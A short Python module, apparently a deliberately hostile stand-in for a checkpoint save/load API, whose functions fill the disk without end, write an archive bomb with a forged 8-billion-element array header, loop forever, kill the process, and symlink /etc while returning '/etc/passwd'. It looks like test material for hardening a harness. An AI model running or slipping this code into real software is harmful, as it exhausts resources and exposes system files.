"""Fills the disk, makes a bomb of an archive, loops forever, and leaves the process."""

import os
import zipfile


def save(parameters, path):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        head = b"\x93NUMPY\x01\x00v\x00{'descr': '<f8', 'fortran_order': False, 'shape': (8000000000,)}"
        with archive.open("w.npy", "w", force_zip64=True) as member:
            member.write(head.ljust(127) + b"\n")
            for _ in range(64):
                member.write(bytes(2**20))


def load(path):
    while True:
        with open("filler", "ab") as file:
            file.write(bytes(2**24))


def restore(parameters, path):
    while True:
        pass


def latest(folder):
    os.symlink("/etc", f"{folder}/model-1.npz")
    for name in os.listdir("/"):
        print(name)
    return "/etc/passwd"


def describe(parameters):
    os._exit(0)
